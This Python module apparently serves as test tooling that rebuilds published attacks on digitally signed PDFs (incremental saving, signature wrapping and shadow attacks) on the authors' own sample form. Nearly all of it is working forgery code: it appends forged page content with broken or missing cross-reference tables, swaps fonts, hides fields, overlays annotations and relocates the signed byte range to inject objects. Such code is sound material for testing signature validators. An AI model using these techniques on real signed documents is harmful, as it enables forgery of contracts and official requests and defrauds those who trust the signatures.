"""Published attacks on signed PDFs, rebuilt on our own samples (pdf-insecurity.org: ISA, SWA, USF)."""

from __future__ import annotations

import re

FORGED = b"BT /F1 18 Tf 72 700 Td (Podvrzena zadost) Tj ET"
"""Page content of the forger; object 4 of ``documents.form_pdf`` is the page content."""


def content_object(number: int = 4, page: bytes = FORGED) -> bytes:
    return b"%d 0 obj\n<< /Length %d >>\nstream\n%b\nendstream\nendobj\n" % (number, len(page), page)


def last_startxref(pdf: bytes) -> int:
    return int(re.findall(rb"startxref\s+(\d+)\s+%%EOF", pdf)[-1])


def appended_with_broken_xref(pdf: bytes) -> bytes:
    """ISA: a new page content, but a cross-reference section that only some readers can use."""
    body = content_object()
    return pdf + body + b"xref\n0 0\ntrailer <<\nstartxref\n%d\n%%%%EOF\n" % last_startxref(pdf)


def appended_with_lost_xref(pdf: bytes) -> bytes:
    """ISA: a startxref that leads nowhere makes many readers collect every object that they find."""
    return pdf + content_object() + b"trailer\n<< /Root 1 0 R >>\nstartxref\n7\n%%EOF\n"


def appended_without_xref(pdf: bytes) -> bytes:
    """ISA: the new object alone."""
    return pdf + content_object()


def appended_long_tail(pdf: bytes) -> bytes:
    """More bytes after the end than readers search for the end-of-file mark."""
    return pdf + content_object() + b"% padding\n" * 300


def appended_tail_with_mark(pdf: bytes) -> bytes:
    return pdf + content_object() + b"%%EOF\n"


def update(pdf: bytes, objects: dict[int, bytes], listed: dict[int, int] | None = None) -> bytes:
    """A formally correct incremental update, whose cross-reference section may list other things than it holds.

    Args:
        objects: number → whole text of the object.
        listed: number → offset; what the update holds when None.
    """
    out = bytearray(pdf)
    offsets = {}
    for number, text in objects.items():
        offsets[number] = len(out)
        out += text
    start = len(out)
    entries = offsets if listed is None else listed
    size = max(_size(pdf), 1 + max(entries, default=0))
    out += b"xref\n" + b"".join(b"%d 1\n%010d 00000 n \n" % item for item in entries.items())
    trailer = b"<< /Size %d /Root 1 0 R /Prev %d /ID [<00> <00>] >>" % (size, last_startxref(pdf))
    return bytes(out) + b"trailer\n%b\nstartxref\n%d\n%%%%EOF\n" % (trailer, start)


def updated_page(pdf: bytes) -> bytes:
    """ISA in the open: a correct update replaces the page content."""
    return update(pdf, {4: content_object()})


def annotation_over_text(pdf: bytes) -> bytes:
    """A note laid over the signed text."""
    note = b"31 0 obj\n<< /Type /Annot /Subtype /FreeText /Rect [60 690 400 730] /DA (/F1 18 Tf) >>\nendobj\n"
    page = (
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Annots [5 0 R 6 0 R 31 0 R] "
    )
    return update(pdf, {31: note, 3: page + b"/Resources 9 0 R >>\nendobj\n"})


def page_added(pdf: bytes) -> bytes:
    page = (
        b"31 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources 9 0 R >>\nendobj\n"
    )
    return update(pdf, {31: page, 2: b"2 0 obj\n<< /Type /Pages /Kids [3 0 R 31 0 R] /Count 2 >>\nendobj\n"})


def page_removed(pdf: bytes) -> bytes:
    return update(pdf, {2: b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n"})


def font_replaced(pdf: bytes) -> bytes:
    """Shadow attack: what the signed text is drawn with is exchanged."""
    return update(pdf, {7: b"7 0 obj\n<< /Type /Font /Subtype /Type1 /BaseFont /ZapfDingbats >>\nendobj\n"})


def field_removed(pdf: bytes) -> bytes:
    """Shadow attack: a field of the form is hidden; the signature field stays."""
    number = max(int(found) for found in re.findall(rb"(\d+) 0 obj\n<<\s*/FT /Sig", pdf))
    form = b"8 0 obj\n<< /Fields [6 0 R %d 0 R] /SigFlags 3 /DA (/F1 0 Tf 0 g) /DR 9 0 R >>\nendobj\n" % number
    return update(pdf, {8: form})


def updated_with_unlisted_object(pdf: bytes) -> bytes:
    """ISA: a harmless update that also carries an object for those readers who rebuild the table."""
    spare = _size(pdf) - 1
    text = b"%d 0 obj\nnull\nendobj\n" % spare
    return update(pdf, {spare: text, 4: content_object()}, listed={spare: len(pdf)})


def update_that_skips_a_tail(pdf: bytes) -> bytes:
    """A hidden update, and on top of it a correct one that leads past it."""
    hidden = appended_with_broken_xref(pdf)
    spare = _size(pdf) - 1
    return update(hidden, {spare: b"%d 0 obj\nnull\nendobj\n" % spare})


def wrapped(pdf: bytes) -> bytes:
    """SWA: the second signed part moved back, and what the forger wants put in between.

    A second signature dictionary has the moved range; a new cross-reference section stands at
    the very offset that the last startxref (which is signed) names.
    """
    first, second = signed_range(pdf)
    part1, value, part2 = pdf[:first], pdf[first:second], pdf[second:]
    xref_at = last_startxref(pdf)
    number = _signature_object(pdf)
    room = 20_000
    gap_end = first + len(value) + room
    shift = gap_end - second
    dictionary = (
        b"%d 0 obj\n<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached "
        b"/Contents %b /ByteRange [0 %d %d %d] >>\nendobj\n" % (number, value, first, gap_end, len(part2))
    )
    before = value + b" >>\nendobj\n"
    before = before.ljust(max(xref_at - first, len(before)))
    injected_at = len(part1) + len(before)
    entries: dict[int, int] = dict(_entries(pdf, xref_at, shift, second))
    table = _table(entries, pdf, number, injected_at)
    # offsets of the injected objects depend on the length of the table, which doesn't change any more
    objects_at = injected_at + len(table)
    entries[number] = objects_at
    entries[4] = objects_at + len(dictionary)
    table = _table(entries, pdf, number, injected_at)
    filling = (before + table + dictionary + content_object()).ljust(gap_end - len(part1))
    return part1 + filling + part2


def signed_range(pdf: bytes) -> tuple[int, int]:
    """End of the first and begin of the second signed part, of the first signature."""
    found = re.search(rb"/ByteRange\s*\[\s*0\s+(\d+)\s+(\d+)\s+\d+\s*\]", pdf)
    assert found
    return int(found[1]), int(found[2])


def _size(pdf: bytes) -> int:
    return max(int(size) for size in re.findall(rb"/Size\s+(\d+)", pdf))


def _signature_object(pdf: bytes) -> int:
    start = pdf.index(b"/ByteRange")
    return int(re.findall(rb"\n(\d+) 0 obj", pdf[:start])[-1])


def _entries(pdf: bytes, xref_at: int, shift: int, second: int) -> list[tuple[int, int]]:
    """What the last section lists, moved where it lay behind the signature."""
    entries = []
    for found in re.finditer(rb"(\d+) 0 obj", pdf[:xref_at]):
        offset = found.start()
        entries.append((int(found[1]), offset + shift if offset >= second else offset))
    return entries


def _table(entries: dict[int, int], pdf: bytes, number: int, at: int) -> bytes:
    entries = {number: at, 4: at, **entries}
    lines = b"".join(b"%d 1\n%010d 00000 n \n" % item for item in sorted(entries.items()))
    return b"xref\n0 1\n0000000000 65535 f \n" + lines + b"trailer\n<< /Size %d /Root 1 0 R >>\n" % _size(pdf)
